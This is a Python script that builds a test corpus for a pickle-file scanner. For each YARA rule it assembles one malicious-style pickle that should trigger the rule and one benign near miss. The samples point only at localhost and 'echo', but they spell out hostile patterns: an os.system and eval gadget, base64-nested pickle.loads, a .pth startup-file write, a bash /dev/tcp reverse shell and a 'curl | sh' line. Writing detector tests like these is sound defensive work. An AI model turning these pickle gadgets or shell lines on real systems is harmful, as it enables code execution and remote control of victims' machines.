#!/usr/bin/env python3
"""Writes corpus/rules/: for every shipped YARA rule, a sample that fires it
and a benign near miss that does not (a similar name, a similar string, the
same string without an import). Assembled opcode by opcode with inert
payloads ('echo', 127.0.0.1, /tmp/pklscan-test); never loaded.

corpus/rules/manifest.jsonl: {"file", "rule", "fires"}; tests/test_rules.c
checks that every compiled rule has both kinds and that each behaves.

Run: /usr/bin/python3 corpus/generate/gen_rule_samples.py
"""
import base64
import json
import os
import struct
import sys

OUT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "rules")
SAMPLES = []


def S(text):  # BINUNICODE
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def B(data):  # SHORT_BINBYTES / BINBYTES
    return (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data


def G(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def SG(module, name):  # protocol 4 STACK_GLOBAL
    return b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def CALL(fn, *args):
    return fn + b"(" + b"".join(args) + b"tR"


def P2(body, stop=True):
    return b"\x80\x02" + body + (b"." if stop else b"")


def add(rule, fires, name, data):
    rel = "%s.%s.pkl" % (rule, name)
    with open(os.path.join(OUT, rel), "wb") as f:
        f.write(data)
    SAMPLES.append({"file": rel, "rule": rule, "fires": fires})


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.unlink(os.path.join(OUT, f))
    T = "/tmp/pklscan-test/"
    add("code.eval", True, "fires_eval", P2(CALL(G("builtins", "eval"), S("1+1"))))
    add("code.eval", False, "near_len", P2(CALL(G("builtins", "len"), S("1+1"))))
    add("code.runner", True, "fires_runpy", P2(CALL(G("runpy", "_run_code"), S("pass"), b"}")))
    add("code.runner", False, "near_codecs", P2(CALL(G("codecs", "decode"), S("x"))))
    add("code.typing_eval", True, "fires_eval_type", P2(CALL(G("typing", "_eval_type"), S("int"))))
    add("code.typing_eval", False, "near_typing_extensions",
        P2(CALL(G("typing_extensions", "Literal"), S("int"))))
    add("code.library_helper", True, "fires_runstring",
        P2(CALL(G("numpy.testing._private.utils", "runstring"), S("pass"), b"}")))
    add("code.library_helper", False, "near_numpy_reconstruct",
        P2(CALL(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), b"K\x00\x85", B(b"b"))))
    add("command.os", True, "fires_os_system", P2(CALL(G("os", "system"), S("echo pklscan"))))
    add("command.os", True, "fires_dotted_alias", b"\x80\x04" + SG("random", "_os.system") + S("echo") + b"\x85R.")
    add("command.os", False, "near_posixpath_join", P2(CALL(G("posixpath", "join"), S("a"), S("b"))))
    add("command.subprocess", True, "fires_check_output",
        P2(CALL(G("subprocess", "check_output"), S("echo"))))
    add("command.subprocess", False, "near_multiprocessing",
        P2(CALL(G("multiprocessing", "cpu_count"))))
    add("command.launcher", True, "fires_pipepager", P2(CALL(G("pydoc", "pipepager"), S("x"), S("echo"))))
    add("command.launcher", False, "near_render_doc", P2(CALL(G("pydoc", "render_doc"), S("x"))))
    add("command.shell_string", True, "fires_sh_c", P2(CALL(G("mylib", "run"), S('sh -c "echo hi"'))))
    add("command.shell_string", False, "near_plain_text", P2(CALL(G("mylib", "run"), S("shells are fun"))))
    add("resolver.import", True, "fires_import_module",
        P2(CALL(G("importlib", "import_module"), S("os"))))
    add("resolver.import", False, "near_importlib_metadata",
        P2(CALL(G("importlib_metadata", "version"), S("numpy"))))
    add("resolver.attribute", True, "fires_attrgetter", P2(CALL(G("operator", "attrgetter"), S("system"))))
    add("resolver.attribute", False, "near_operator_add", P2(CALL(G("operator", "add"), b"K\x01", b"K\x02")))
    add("resolver.dunder_path", True, "fires_dict_get",
        b"\x80\x04" + SG("builtins", "__dict__.get") + S("eval") + b"\x85R.")
    add("resolver.dunder_path", False, "near_private_path",
        b"\x80\x04" + SG("mylib", "_private.thing") + b"." )
    add("resolver.computed_call", True, "fires_call_of_result",
        P2(CALL(G("mylib", "factory")) + b")R"))
    add("resolver.computed_call", False, "near_call_of_global", P2(CALL(G("mylib", "factory"))))
    add("code_object.builder", True, "fires_marshal_loads",
        P2(CALL(G("marshal", "loads"), B(b"\xe3" + bytes(20)))))
    add("code_object.builder", False, "near_simplenamespace",
        P2(CALL(G("types", "SimpleNamespace"))))
    inner = b"\x80\x02N."
    add("nested.decoded", True, "fires_b64_loads",
        P2(CALL(G("pickle", "loads"), CALL(G("base64", "b64decode"), B(base64.b64encode(inner))))))
    add("nested.decoded", False, "near_plain_loads", P2(CALL(G("pickle", "loads"), B(inner))))
    add("nested.loader", True, "fires_pickle_loads", P2(CALL(G("pickle", "loads"), B(inner))))
    add("nested.loader", False, "near_b64_only", P2(CALL(G("base64", "b64decode"), B(b"TiU="))))
    add("fs.write", True, "fires_open_write", P2(CALL(G("builtins", "open"), S(T + "x"), S("w"))))
    add("fs.write", False, "near_bytesio", P2(CALL(G("io", "BytesIO"), B(b"x"))))
    add("fs.startup_file", True, "fires_pth", P2(CALL(G("mylib", "save"), S(T + "evil.pth"))))
    add("fs.startup_file", False, "near_txt", P2(CALL(G("mylib", "save"), S(T + "notes.txt"))))
    add("net.module", True, "fires_create_connection",
        P2(CALL(G("socket", "create_connection"), S("127.0.0.1"))))
    add("net.module", False, "near_http_status", P2(CALL(G("http", "HTTPStatus"), b"K\xc8")))
    add("net.endpoint", True, "fires_url", P2(CALL(G("mylib", "fetch"), S("http://127.0.0.1/x"))))
    add("net.endpoint", False, "near_no_url", P2(CALL(G("mylib", "fetch"), S("httpx-style name"))))
    add("persist.hook", True, "fires_atexit", P2(CALL(G("atexit", "register"), G("mylib", "f"))))
    add("persist.hook", False, "near_sysconfig", P2(CALL(G("sysconfig", "get_paths"))))
    add("persist.global_mutation", True, "fires_environ",
        P2(G("os", "environ") + b"(" + S("K") + S("V") + b"u"))
    add("persist.global_mutation", False, "near_fresh_dict", P2(b"}(" + S("K") + S("V") + b"u"))
    add("structure.ext", True, "fires_ext1", P2(b"\x82\x01"))
    add("structure.ext", False, "near_binint1", P2(b"K\x01"))
    add("structure.frame", True, "fires_crossed",
        b"\x80\x04\x95" + struct.pack("<Q", 1) + b"K\x01.")
    add("structure.frame", False, "near_good_frame",
        b"\x80\x04\x95" + struct.pack("<Q", 3) + b"K\x01.")
    add("structure.payload_then_break", True, "fires_os_then_break",
        P2(CALL(G("os", "system"), S("echo")), stop=False))
    add("structure.payload_then_break", False, "near_unknown_then_break",
        P2(CALL(G("mylib", "x")), stop=False))
    shell = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
    add("raw.reverse_shell", True, "fires_dev_tcp", P2(CALL(G("mylib", "run"), S(shell))))
    add("raw.reverse_shell", False, "near_string_only", P2(S(shell)))
    add("raw.download_run", True, "fires_curl_sh",
        P2(CALL(G("mylib", "run"), S("curl http://127.0.0.1/x | sh"))))
    add("raw.download_run", False, "near_curl_output",
        P2(CALL(G("mylib", "run"), S("curl http://127.0.0.1/x -o out"))))
    # Container rules judge zip walker events: their samples are the tampered
    # files of corpus/containers (gen_containers.py), near misses the real ones.
    good = "../containers/benign/torch_state_dict.pt"
    for rule, bad in (("container.member_confusion", "../containers/tampered/name_mismatch.pt"),
                      ("container.integrity", "../containers/tampered/bad_crc.pt"),
                      ("container.hidden_bytes", "../containers/tampered/hidden_bytes.pt"),
                      ("container.odd_flags", "../containers/tampered/odd_flags.pt"),
                      ("container.polyglot", "../containers/malicious/polyglot_pickle_zip.pt")):
        SAMPLES.append({"file": bad, "rule": rule, "fires": True})
        SAMPLES.append({"file": good, "rule": rule, "fires": False})
    with open(os.path.join(OUT, "manifest.jsonl"), "w") as f:
        for s in sorted(SAMPLES, key=lambda s: s["file"]):
            f.write(json.dumps(s) + "\n")
    print("wrote %d rule samples to %s" % (len(SAMPLES), OUT))


if __name__ == "__main__":
    main()
